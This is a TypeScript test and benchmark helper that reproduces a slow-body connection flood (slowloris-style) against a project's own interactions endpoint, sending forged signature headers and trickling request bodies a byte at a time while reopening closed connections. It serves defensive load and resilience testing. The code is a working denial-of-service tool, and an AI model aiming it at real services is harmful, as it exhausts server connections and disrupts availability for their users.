// The attack of issue 40 on the interactions endpoint, as a stranger would run it: many connections that
// each send a request's head at once — well-formed but wrong signature headers, a current timestamp, a
// plausible Content-Length — then trickle its body a byte at a time, and are reopened as soon as they are
// closed. Used by the process tests and the bench (bench/metrics/httpFlood.ts).
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

export interface SlowFloodOptions {
  /** The Interactions Endpoint URL (http://host:port/interactions). */
  url: string;
  connections: number;
  /** The announced body size; the body never gets there. */
  contentLength?: number;
  /** One byte per connection this often. */
  trickleMs?: number;
}

export interface SlowFlood {
  /** Status codes of the answers the flood's requests got, by code. */
  readonly statuses: ReadonlyMap<number, number>;
  /** Connections closed without any answer (reset, or cut before a status line). */
  readonly unanswered: number;
  /** Connections opened so far (the initial ones and every reopening). */
  readonly opened: number;
  /** Connections open right now. */
  readonly open: number;
  /** Closes every connection and stops reopening them. */
  stop(): Promise<void>;
}

export function startSlowFlood(options: SlowFloodOptions): SlowFlood {
  const { hostname, port, pathname } = new URL(options.url);
  const contentLength = options.contentLength ?? 2_000;
  const statuses = new Map<number, number>();
  const sockets = new Set<Socket>();
  let unanswered = 0;
  let opened = 0;
  let stopped = false;

  const open = () => {
    if (stopped) return;
    opened += 1;
    const socket = connect({ host: hostname, port: Number(port) });
    let answered = false;
    let head = '';
    sockets.add(socket);
    socket.setNoDelay(true);
    socket.on('connect', () => {
      socket.write(
        `POST ${pathname} HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\n` +
          `content-length: ${contentLength}\r\n` +
          `x-signature-ed25519: ${randomBytes(64).toString('hex')}\r\n` +
          `x-signature-timestamp: ${Math.floor(Date.now() / 1000)}\r\n\r\n{`,
      );
    });
    socket.on('data', (data: Buffer) => {
      if (answered) return;
      head += data.toString('latin1');
      const status = /^HTTP\/1\.1 (\d{3})/.exec(head);
      if (status === null) return;
      answered = true;
      const code = Number(status[1]);
      statuses.set(code, (statuses.get(code) ?? 0) + 1);
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      // Closed by the server without a status line (not by stop()).
      if (!answered && !stopped) unanswered += 1;
      // Reopened at once, as the attacker would.
      setImmediate(open);
    });
  };

  // One timer trickles every connection: a byte each, never enough to finish.
  const trickle = setInterval(() => {
    for (const socket of sockets) if (socket.writable && !socket.connecting) socket.write(' ');
  }, options.trickleMs ?? 200);
  for (let i = 0; i < options.connections; i += 1) open();

  return {
    statuses,
    get unanswered() {
      return unanswered;
    },
    get opened() {
      return opened;
    },
    get open() {
      return sockets.size;
    },
    async stop() {
      stopped = true;
      clearInterval(trickle);
      const closing = [...sockets].map(
        (socket) => new Promise<void>((resolve) => socket.once('close', () => resolve()).destroy()),
      );
      await Promise.all(closing);
    },
  };
}
